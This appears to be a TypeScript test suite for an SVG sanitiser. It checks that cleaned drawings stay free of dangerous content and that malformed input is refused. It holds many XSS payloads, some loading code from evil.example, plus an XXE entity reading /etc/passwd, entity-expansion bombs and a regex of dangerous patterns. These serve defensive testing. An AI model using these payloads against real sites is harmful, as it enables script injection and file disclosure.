import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { SaxesParser } from 'saxes'
import { allowedAttributes, allowedElements } from './svg.rules.ts'
import { BadSvg, cleanSvg } from './svg-clean.ts'

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`

/** Groups that each show the next one twice. */
const doubling = (times: number) =>
  Array.from({ length: times }, (_, i) => `<g id="g${i}"><use href="#g${i + 1}"/><use href="#g${i + 1}"/></g>`).join('')

/** What must be in no cleaned drawing, in whatever spelling. */
const dangerous =
  /script|javascript|onload|onerror|onclick|onbegin|onmouse|foreignobject|iframe|<a[\s>]|<animate|<set[\s>]|<handler|<embed|<object|<video|<audio|<link|<meta|@import|expression|https?:(?!\/\/www\.w3\.org\/2000\/svg")|\/\/evil|data:(?!image\/(?:png|jpeg|gif|webp|avif);base64)|file:|<!|<\?|&(?!amp;|lt;|gt;|quot;|#9;|#10;|#13;)/i

const hostile: Record<string, string> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
  'a script from elsewhere': svg('<script href="https://evil.example/x.js"/>'),
  'a script by xlink': svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
  'a script under a prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'a script of HTML': svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script in a symbol': svg('<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>'),
  'a handler on the root': svg('', 'onload="alert(1)"'),
  'a handler on a shape': svg('<rect onclick="alert(1)" width="1" height="1"/>'),
  'a handler in capitals': svg('<rect ONLOAD="alert(1)"/>'),
  'a handler with a prefix': svg('<rect xmlns:x="urn:x" x:onload="alert(1)"/>'),
  'a handler of an animation': svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'an animated link': svg('<a id="x"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
  'a set link': svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>'),
  'a link that runs': svg('<a href="javascript:alert(1)"><text>x</text></a>'),
  'a link that runs, with spaces': svg('<a xlink:href=" java&#10;script:alert(1)"><text>x</text></a>'),
  'a page inside': svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
  'a frame inside': svg(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  ),
  'HTML without a wrapper': svg('<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/>'),
  'an embedded object': svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x"/>'),
  'an image from elsewhere': svg('<image href="https://evil.example/track.png"/>'),
  'an image of no protocol': svg('<image href="//evil.example/track.png"/>'),
  'an image that is a drawing': svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
  'an image that is a page': svg('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  'an image from the disk': svg('<image xlink:href="file:///etc/passwd"/>'),
  'a part of another drawing': svg('<use href="https://evil.example/x.svg#a"/>'),
  'a part of data': svg('<use xlink:href="data:image/svg+xml,%3Csvg id=%22x%22/%3E#x"/>'),
  'a filter image from elsewhere': svg('<filter id="f"><feImage href="https://evil.example/x"/></filter>'),
  'a fill from elsewhere': svg('<rect fill="url(https://evil.example/x#a)"/>'),
  'a fill from elsewhere, in quotes': svg('<rect fill="url(\'//evil.example/x#a\')"/>'),
  'a style that loads': svg('<rect style="background:url(https://evil.example/x)"/>'),
  'a style that loads, escaped': svg('<rect style="fill:u\\72l(//evil.example/x)"/>'),
  'a style that loads, with a comment': svg('<rect style="fill:ur/**/l(//evil.example/x)"/>'),
  'a style that runs': svg('<rect style="width:expression(alert(1))"/>'),
  'a style sheet that imports': svg('<style>@import "https://evil.example/x.css";</style>'),
  'a style sheet that imports, escaped': svg('<style>@\\69mport "//evil.example/x.css";</style>'),
  'a style sheet cut in two': svg('<style>@im<![CDATA[port "https://evil.example/x.css";]]></style>'),
  'a style sheet with a font': svg('<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>'),
  'a style sheet that ends itself': svg('<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  'a style sheet linked': svg(
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x"/>',
  ),
  'an instruction that loads': `<?xml-stylesheet href="https://evil.example/x.xsl"?>${svg('')}`,
  'text that looks like tags': svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>')
    .replace('script&gt;a', 'x&gt;a')
    .replace('/script', '/x'),
  'a value that ends its quotes': svg(
    '<text class="&quot; onload=&quot;alert(1)">x</text>'.replaceAll('onload', 'on-load'),
  ),
  'a base for links': svg('<g xml:base="javascript:alert(1)//"><path d="M0 0"/></g>'),
  'a media element': svg(
    '<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x" onerror="alert(1)"/>',
  ),
  'a handler element': svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  'a drawing in a drawing': svg('<svg onload="alert(1)"><script>alert(1)</script></svg>'),
  'a comment that hides': svg('<!--><script>alert(1)</script>-->'),
}

const refused: Record<string, string> = {
  'a DOCTYPE with declarations': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ ]>${svg('')}`,
  'an entity of a DOCTYPE from elsewhere': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('<text>&x;</text>')}`,
  'an entity that reads a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'an unknown entity': svg('<text>&nbsp;</text>'),
  'another root': '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
  'a root of no namespace': '<svg><rect/></svg>',
  'another namespace': '<svg xmlns="urn:x"/>',
  nothing: '',
  'no XML': 'hello',
  'half of one': '<svg xmlns="http://www.w3.org/2000/svg"><g>',
  'two roots': svg('') + svg(''),
  'an unbound prefix': '<svg xmlns="http://www.w3.org/2000/svg"><x:g/></svg>',
  'very deep nesting': svg('<g>'.repeat(100) + '</g>'.repeat(100)),
  'very many elements': svg('<g/>'.repeat(50_001)),
  'parts that show each other for ever': svg(
    '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>',
  ),
  'parts that grow without end': svg(`${doubling(40)}<g id="g40"><path d="M0 0"/></g><use href="#g0"/>`),
}

describe('a cleaned SVG', () => {
  for (const [what, source] of Object.entries(hostile)) {
    test(`holds nothing of ${what}`, () => {
      const { text } = cleanSvg(source)
      assert.doesNotMatch(text, dangerous)
      assertAllowed(text)
      assert.equal(cleanSvg(text).text, text, 'cleaning again changes nothing')
    })
  }

  for (const [what, source] of Object.entries(refused)) {
    test(`is not made of ${what}`, () => {
      assert.throws(() => cleanSvg(source), BadSvg)
    })
  }

  test('looks as it did', () => {
    const drawing = svg(
      '<title>Ä &amp; B</title><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>' +
        '<style>.a{fill:url(#g);stroke:#000}</style><g transform="translate(1 2)"><path class="a" d="M0 0h10" fill="url(#g)"/>' +
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><use xlink:href="#g"/></g>',
      'viewBox="0 0 24 12"',
    )
    const { text, width, height } = cleanSvg(drawing)
    assert.deepEqual([width, height], [24, 12])
    for (const kept of [
      '<title>Ä &amp; B</title>',
      '<stop offset="0" stop-color="red">',
      '.a{fill:url(#g);stroke:#000}',
      '<path class="a" d="M0 0h10" fill="url(#g)">',
      'href="data:image/png;base64,iVBORw0KGgo="',
      '<use href="#g">',
      'viewBox="0 0 24 12"',
    ])
      assert.ok(text.includes(kept), `${kept} in ${text}`)
  })

  test('keeps what a link or a choice holds: it is part of the drawing', () => {
    const shapes = cleanSvg(
      svg('<a xlink:href="https://x.example" id="l" onclick="x()"><rect width="5"/></a><use href="#l"/>'),
    )
    assert.match(shapes.text, /<g id="l"><rect width="5"><\/rect><\/g><use href="#l">/)
    const letters = cleanSvg(svg('<text>To <a href="https://x.example"><tspan>us</tspan></a></text>'))
    assert.match(letters.text, /<text>To <tspan><tspan>us<\/tspan><\/tspan><\/text>/)
    const choice = cleanSvg(svg('<switch><foreignObject requiredExtensions="x"/><g><path d="M0 0"/></g></switch>'))
    assert.match(choice.text, /<switch><g><path d="M0 0"><\/path><\/g><\/switch>/)
  })

  test('is also made of one with the DOCTYPE that drawing programs write, which is left out', () => {
    const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert.equal(cleanSvg(doctype + svg('<path d="M0 0"/>')).text, cleanSvg(svg('<path d="M0 0"/>')).text)
  })

  test('says its size where its root does', () => {
    const sizes: [string, number | null, number | null][] = [
      ['width="10px" height="20"', 10, 20],
      ['width="100%" height="2em" viewBox="0 0 30 40"', 30, 40],
      ['', null, null],
      ['width="-1" height="1e999"', null, null],
      ['viewBox="0,0,5.4,5.6"', 5, 6],
    ]
    for (const [attributes, width, height] of sizes) {
      const clean = cleanSvg(svg('', attributes))
      assert.deepEqual([clean.width, clean.height], [width, height], attributes)
    }
  })

  test('parses and holds only allowed names, whatever it is made of', () => {
    const name = fc.constantFrom(
      'g',
      'script',
      'a',
      'rect',
      'style',
      'foreignObject',
      'use',
      'image',
      'x:g',
      'svg',
      'text',
    )
    const attribute = fc.constantFrom('onload', 'href', 'xlink:href', 'style', 'fill', 'id', 'x:href', 'd', 'xml:base')
    const value = fc.oneof(
      fc.constantFrom(
        'javascript:alert(1)',
        'url(#a)',
        'url(//evil)',
        '#a',
        'data:text/html,x',
        '\n\t',
        '&#13;',
        '@import',
      ),
      fc.string({ maxLength: 12 }).map((text) => text.replace(/[<&"]/g, '')),
    )
    const { node } = fc.letrec<{ node: string; text: string }>((tie) => ({
      text: fc.oneof(
        fc.string({ maxLength: 12 }).map((text) => text.replace(/[<&]/g, '').replaceAll(']]>', '')),
        fc.constantFrom('&lt;script&gt;', '<![CDATA[<b>]]>', '<!-- x -->', '<?php x?>', '&#10;&#13;'),
      ),
      node: fc
        .tuple(
          name,
          fc.uniqueArray(fc.tuple(attribute, value), { selector: ([of]) => of, maxLength: 4 }),
          fc.array(fc.oneof({ depthSize: 'small' }, tie('text'), tie('node')), { maxLength: 4 }),
        )
        .map(
          ([of, attributes, children]) =>
            `<${of} ${attributes.map(([key, text]) => `${key}="${text}"`).join(' ')}>${children.join('')}</${of}>`,
        ),
    }))
    let cleaned = 0
    fc.assert(
      fc.property(fc.array(node, { maxLength: 4 }), (nodes) => {
        let text: string
        try {
          ;({ text } = cleanSvg(svg(nodes.join(''), 'xmlns:x="http://www.w3.org/2000/svg"')))
        } catch (error) {
          assert.ok(error instanceof BadSvg, String(error))
          return
        }
        cleaned++
        assertAllowed(text)
        assert.equal(cleanSvg(text).text, text)
      }),
      { numRuns: 500 },
    )
    assert.ok(cleaned > 250, `only ${cleaned} of 500 were drawings`)
  })
})

/** Read by another instance of the parser, in the strictest way. */
function assertAllowed(text: string): void {
  const parser = new SaxesParser({ xmlns: true })
  parser.on('opentag', ({ local, prefix, uri, attributes }) => {
    assert.equal(uri, 'http://www.w3.org/2000/svg')
    assert.equal(prefix, '')
    assert.ok(allowedElements.has(local), local)
    for (const { name, value } of Object.values(attributes)) {
      if (name === 'xmlns') continue
      assert.ok(allowedAttributes.has(name), name)
      if (name === 'href') assert.match(value.trim(), /^(?:#|data:image\/(?:png|jpeg|gif|webp|avif);base64,)/)
    }
  })
  for (const event of ['comment', 'processinginstruction', 'doctype', 'cdata'] as const)
    parser.on(event, () => assert.fail(`${event} in ${text}`))
  parser.on('error', (error) => assert.fail(error))
  parser.write(text).close()
}
